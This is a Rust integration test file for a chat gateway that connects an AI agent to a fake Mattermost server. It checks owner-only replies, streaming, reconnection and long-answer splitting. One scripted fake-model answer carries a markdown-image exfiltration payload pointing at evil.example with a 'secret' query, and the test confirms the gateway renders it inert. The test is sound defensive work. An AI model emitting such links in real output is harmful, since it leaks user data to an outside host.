//! gatewayd with the real stack and a fake Mattermost server: the owner chats in threads,
//! strangers are ignored, model output reaches Mattermost inert, a dropped WebSocket loses
//! and doubles nothing, and what a server sends unasked (edits, reactions and their removal,
//! typing, posts in another channel) answers nothing.

use std::time::Duration;

use serde_json::Value;
use stack::{Home, OFF_TOPIC, OWNER, STRANGER, post_id, replies};

const HELLO: &str = "Hello from the fake model, streamed in small pieces.";

const SCRIPT: &str = r#"
[server]
n_ctx = 16384
chunk_chars = 4

[[rule]]
[rule.match]
user_contains = "picture"
[rule.answer]
text = "Look: ![](http://evil.example/?data=secret) done."

[default]
text = "Hello from the fake model, streamed in small pieces."
chunk_delay_ms = 20
"#;

#[test]
fn the_owner_chats_in_threads_and_strangers_are_ignored() {
    let home = Home::new("gateway", "");
    let gw = home.start_gateway(&[OWNER.id], "edit_interval = \"10ms\"");
    let agent = home.start_agent(SCRIPT, "");

    let root = gw.post(OWNER, "hello there", None);
    gw.wait_reply(&root, HELLO);
    let reply = replies(&gw.state(), &root).remove(0);
    assert_eq!(reply["message"], HELLO);
    let state = gw.state();
    let edits = state["edits"][post_id(&reply).as_str()]
        .as_u64()
        .unwrap_or(0);
    assert!(
        edits >= 1,
        "the reply was streamed by editing it: {state:#}"
    );
    assert!(state["typing"].as_u64() >= Some(1), "typing shown");

    let stranger = gw.post(STRANGER, "hello? tell me a picture", None);
    // The owner continues the thread: same session, and the injected image reaches
    // Mattermost inert.
    gw.post(OWNER, "show me a picture", Some(&root));
    gw.wait_reply(&root, "done.");
    let all = replies(&gw.state(), &root);
    assert_eq!(all.len(), 2, "{all:#?}");
    let second = &all[1];
    let text = second["message"].as_str().expect("message");
    assert_eq!(text, "Look: `![](http://evil.example/?data=secret)` done.");
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        replies(&gw.state(), &stranger).is_empty(),
        "a stranger is never answered"
    );
    assert!(
        gw.state()["posts"]
            .as_array()
            .expect("posts")
            .iter()
            .all(|p| p["root_id"] != stranger),
        "nothing in the stranger's thread"
    );
    let saved = home.gateway_state();
    assert_eq!(saved["ignored"], 1, "{saved:#}");
    assert_eq!(
        saved["threads"].as_object().expect("threads").len(),
        1,
        "{saved:#}"
    );
    assert_eq!(home.sessions(), 1, "the thread continued its session");
    // gatewayd registered the owner's words with brokerd before loopd had them; a
    // stranger's, never handed to loopd, were not.
    assert!(home.owner_registered("hello there"));
    assert!(home.owner_registered("show me a picture"));
    assert!(!home.owner_registered("hello? tell me a picture"));
    assert_eq!(agent.fallbacks(), Vec::<String>::new());
}

#[test]
fn a_dropped_websocket_loses_and_doubles_nothing() {
    let home = Home::new("gateway-drop", "");
    let gw = home.start_gateway(&[OWNER.id], "");
    let _agent = home.start_agent(SCRIPT, "");

    let first = gw.post(OWNER, "first", None);
    // Dropped mid-conversation: the reply is still streaming.
    stack::http(&gw.addr, "POST", "/fake/drop", &Value::Null);
    let second = gw.post(OWNER, "second, while gatewayd is away", None);
    gw.wait_reply(&first, HELLO);
    gw.wait_reply(&second, HELLO);
    let state = gw.wait("a reconnect", |s| s["connections"].as_u64() >= Some(2));
    assert!(state["live"].as_u64() >= Some(1));
    // A third post after the reconnect arrives over the WebSocket again.
    let third = gw.post(OWNER, "third", None);
    gw.wait_reply(&third, HELLO);
    std::thread::sleep(Duration::from_secs(1));
    let state = gw.state();
    for root in [&first, &second, &third] {
        assert_eq!(
            replies(&state, root).len(),
            1,
            "one reply for {root}: {state:#}"
        );
    }
}

#[test]
fn a_long_answer_is_split_within_the_post_limit_and_errors_are_said_plainly() {
    let home = Home::new("gateway-long", "");
    let gw = home.start_gateway(&[OWNER.id], "");
    // No agent yet: the owner is told plainly.
    let early = gw.post(OWNER, "anyone there?", None);
    gw.wait_reply(&early, "**Sorry:** boxmaker's agent is not reachable");

    let long = "many words ".repeat(2000);
    let script = format!(
        "[server]\nn_ctx = 65536\nchunk_chars = 4000\n\n[[rule]]\n[rule.match]\n\
         user_contains = \"long\"\n[rule.answer]\ntext = \"{long}\"\n\n[default]\ntext = \"Hi.\"\n"
    );
    let _agent = home.start_agent(&script, "max_tokens = 16384");
    let root = gw.post(OWNER, "a long answer please", None);
    let state = gw.wait("the long answer in two posts", |s| {
        let parts = replies(s, &root);
        parts.len() == 2
            && parts
                .iter()
                .map(|p| p["message"].as_str().unwrap_or("").matches("many").count())
                .sum::<usize>()
                == 2000
    });
    for part in replies(&state, &root) {
        let text = part["message"].as_str().expect("message");
        assert!(text.chars().count() <= 16_000, "{}", text.chars().count());
    }
}

#[test]
fn what_a_server_sends_unasked_answers_nothing_and_keeps_the_sequence() {
    let home = Home::new("gateway-unasked", "");
    let gw = home.start_gateway(&[OWNER.id], "");
    let _agent = home.start_agent(SCRIPT, "");
    let root = gw.post(OWNER, "hello there", None);
    gw.wait_reply(&root, HELLO);

    // A server sends post_edited, reaction_added, reaction_removed and typing for these,
    // each with the connection's next seq.
    gw.edit(OWNER, &root, "hello there, edited");
    gw.react(OWNER, &root, "smile");
    gw.unreact(OWNER, &root, "smile");
    gw.typing(STRANGER, &root);
    // The owner writes in another channel the bot is in: not the one it follows.
    let elsewhere = gw.post_in(OFF_TOPIC, OWNER, "hello from off-topic", None);
    let next = gw.post(OWNER, "and again", None);
    gw.wait_reply(&next, HELLO);

    // After a reconnect the catch-up (`since`) brings the edited, reacted-to post back as
    // updated: it is not answered again.
    stack::http(&gw.addr, "POST", "/fake/drop", &Value::Null);
    gw.wait("the WebSocket connected again", |s| {
        s["connections"].as_u64() >= Some(2) && s["live"].as_u64() >= Some(1)
    });
    let third = gw.post(OWNER, "a third time", None);
    gw.wait_reply(&third, HELLO);
    let state = gw.state();
    assert_eq!(replies(&state, &root).len(), 1, "{state:#}");
    assert!(replies(&state, &elsewhere).is_empty(), "{state:#}");
    assert_eq!(
        home.sessions(),
        3,
        "one session per thread, none for the edit"
    );
    let log = gw.daemons[0].log();
    assert!(!log.contains("sequence jumped"), "{log}");
    assert!(!log.contains("not understood"), "{log}");
}
